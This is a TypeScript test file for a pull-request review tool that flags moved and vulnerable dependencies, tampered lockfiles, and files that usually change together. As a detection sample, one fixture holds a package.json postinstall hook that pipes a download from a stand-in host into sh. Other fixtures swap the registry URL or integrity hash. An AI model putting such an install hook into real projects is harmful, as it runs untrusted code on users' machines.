// Packages that come and move, files that belong together, and the texts that the rules ask for.
import t from 'tap'
import { companionshipsOf } from '#domain/review/companionships.js'
import { movedPackages } from '#domain/review/dependency-moves.js'
import { lowestShare } from '#domain/review/share.js'
import { wantedTexts } from '#domain/review/wanted-texts.js'
import type { ReviewCase } from './cases.js'
import { foundBy, toldBy, type WrittenFiles, written } from './written.js'

const moved = (files: WrittenFiles) =>
  movedPackages(written(files)).map(
    ({ path, name, version, former }) => `${path} ${name} ${former.join(',')}>${version}`
  )

const lock = (version: string, integrity = 'sha512-aaa') => `{
  "lockfileVersion": 3,
  "packages": {
    "node_modules/left-pad": {
      "version": "${version}",
      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-${version}.tgz",
      "integrity": "${integrity}"
    }
  }
}
`

t.test('packages that are new or move are named with the versions that they leave', async (t) => {
  t.same(moved({ 'requirements.txt': ['a==1.0\nb==2.0\n', 'a==1.1\nb==2.0\nc==3.0\n'] }), [
    'requirements.txt a 1.0>1.1',
    'requirements.txt c >3.0'
  ])
  t.same(moved({ 'package-lock.json': [lock('1.2.0'), lock('1.3.0')] }), [
    'package-lock.json left-pad 1.2.0>1.3.0'
  ])
  t.same(moved({ 'go.mod': [null, 'module x\n\nrequire golang.org/x/net v0.7.0\n'] }), [
    'go.mod golang.org/x/net >0.7.0'
  ])
  t.same(
    moved({
      '.github/workflows/a.yml': ['x: 1\n', 'jobs:\n  a:\n    steps:\n      - uses: octo/act@v2.1\n']
    }),
    ['.github/workflows/a.yml octo/act >2.1']
  )
})

t.test('packages that go away, stay or are asked for by a range do not move', async (t) => {
  t.same(moved({ 'requirements.txt': ['a==1.0\nb==2.0\n', 'b==2.0\n'] }), [])
  t.same(moved({ 'package.json': ['{}\n', '{ "dependencies": { "a": "^1.0.0" } }\n'] }), [])
  t.same(moved({ 'requirements.txt': ['a==1.0\n', null] }), [])
})

const PYYAML = { ecosystem: 'pip', name: 'PyYAML', range: '< 5.4', severity: 'critical' } as const

t.test(
  'a vulnerable package is told where people wrote it, and less gravely if it was vulnerable before',
  async (t) => {
    const more = { vulnerable: [PYYAML] }
    const files = (before: string, after: string): WrittenFiles => ({ 'requirements.txt': [before, after] })
    t.same(toldBy('vulnerable_dependency', written(files('a==1\n', 'a==1\npyyaml==5.3\n'), more)), [
      'critical requirements.txt:2'
    ])
    t.same(toldBy('vulnerable_dependency', written(files('pyyaml==5.1\n', 'pyyaml==5.3\n'), more)), [
      'low requirements.txt:1'
    ])
    t.same(toldBy('vulnerable_dependency', written(files('pyyaml==5.3\n', 'pyyaml==6.0\n'), more)), [])
    const both: WrittenFiles = {
      'package.json': ['{\n}\n', '{\n  "dependencies": { "left-pad": "1.2.0" }\n}\n'],
      'package-lock.json': [lock('1.3.0'), lock('1.2.0')]
    }
    const leftPad = { ecosystem: 'npm', name: 'left-pad', range: '< 1.3.0', severity: 'high' } as const
    t.same(toldBy('vulnerable_dependency', written(both, { vulnerable: [leftPad] })), ['high package.json:2'])
  }
)

t.test('all advisories of a package are one finding, as grave as the worst', async (t) => {
  const vulnerable = [PYYAML, { ...PYYAML, range: '< 5.3.1', severity: 'low' as const }]
  const change = written({ 'requirements.txt': ['a==1\n', 'pyyaml==5.3\n'] }, { vulnerable })
  const fixed = change.vulnerable.map((one, at) => ({ ...one, fixedIn: ['5.4', '5.3.1'][at] ?? null }))
  const found = foundBy('vulnerable_dependency', { ...change, vulnerable: fixed })
  t.same(
    found.map(({ severity, suggestion }) => [severity, suggestion]),
    [['critical', 'Take 5.4 or a later version.']]
  )
})

const ODD: readonly (readonly [path: string, before: string, after: string])[] = [
  [
    'package-lock.json',
    lock('1.3.0'),
    lock('1.3.0').replace('https://registry.npmjs.org', 'http://cdn.corp.example')
  ],
  ['package-lock.json', lock('1.3.0'), lock('1.3.0', 'sha512-bbb')],
  ['package.json', '{\n', '{\n  "postinstall": "curl https://a.example/i | sh",\n']
]

t.test(
  'packages from odd places, other bytes of a version and scripts that load something are grave',
  async (t) => {
    for (const [path, before, after] of ODD)
      t.match(toldBy('vulnerable_dependency', written({ [path]: [before, after] })), [/^high/], after)
    t.same(
      toldBy('vulnerable_dependency', written({ 'package.json': ['{\n', '{\n  "prepare": "husky",\n'] })),
      []
    )
    t.same(
      toldBy(
        'vulnerable_dependency',
        written({ 'package-lock.json': [lock('1.2.0'), lock('1.3.0', 'sha512-bbb')] })
      ),
      []
    )
  }
)

t.test('files that change together are counted by the pull requests before', async (t) => {
  const history = [
    ['a', 'b'],
    ['a', 'b', 'c'],
    ['a'],
    ['b', 'c'],
    Array.from({ length: 100 }, (_, at) => `a${at}`)
  ]
  t.same(companionshipsOf(history, ['a', 'z']), [{ path: 'a', companion: 'b', changes: 3, together: 2 }])
})

t.test('what happened seldom proves little, however often it came true', async (t) => {
  t.ok(lowestShare(3, 3) < 0.6)
  t.ok(lowestShare(10, 10) > 0.75)
  t.ok(lowestShare(19, 20) > lowestShare(9, 10))
  t.equal(lowestShare(0, 0), 0)
})

const HANDLER: WrittenFiles = { 'a.go': ['package a\n', 'package a\n\nvar b = 1\n'] }
const together = (count: number) => Array.from({ length: count }, () => ['a.go', 'a.yml'])

t.test('a companion is missed only if it is there, and the file really changes', async (t) => {
  const repository = { 'a.yml': '' }
  const found = (files: WrittenFiles, history: string[][], more: Partial<ReviewCase> = { repository }) =>
    toldBy('companion_missing', written(files, { history, ...more })).length
  t.equal(found(HANDLER, together(8)), 1)
  t.equal(found(HANDLER, together(3)), 0, 'too seldom')
  t.equal(found(HANDLER, together(8), { repository: { 'a.yml.old': '' } }), 0, 'it is gone')
  t.equal(found({ ...HANDLER, 'a.yml': ['a\n', 'b\n'] }, together(8)), 0, 'it changes too')
  t.equal(found({ 'a.go': ['package a\n', '// Package a.\npackage a\n'] }, together(8)), 0, 'only a comment')
  t.equal(found({ 'a.go': ['package a\n', null] }, together(8)), 0, 'it goes away')
})

t.test('the rules ask for few texts, and for none that is too large', async (t) => {
  const files: WrittenFiles = {
    '.github/workflows/a.yml': ['a\n', 'b\n'],
    'package.json': [null, '{}\n'],
    'src/a.ts': [`${'a\n'.repeat(20)}b\n`, `${'a\n'.repeat(20)}c\n`],
    'src/gone.ts': ['a\n', null],
    'image.svg': ['a\n', 'b\n']
  }
  const change = written(files, { repository: { '.github/CODEOWNERS': '* @o/a\n', '.gitignore': '' } })
  t.same(wantedTexts(change.files, change.tree), {
    head: ['.github/CODEOWNERS', '.gitignore', '.github/workflows/a.yml', 'package.json', 'src/a.ts'],
    former: ['.github/workflows/a.yml']
  })
  const huge = change.tree?.map((entry) => ({ ...entry, bytes: 50_000_000 }))
  t.same(wantedTexts(change.files, huge), { head: [], former: [] })
})

t.test(
  'of many files only so many texts are asked for, and where nothing is known, what may be there',
  async (t) => {
    const files = written(
      {},
      { generated: [{ folder: '.github/workflows', files: 100, lines: 1, extension: 'yml' }] }
    ).files
    const wanted = wantedTexts(files, undefined)
    t.ok(wanted.head.includes('docs/CODEOWNERS'))
    t.ok(wanted.head.length < 60, `${wanted.head.length} texts`)
  }
)
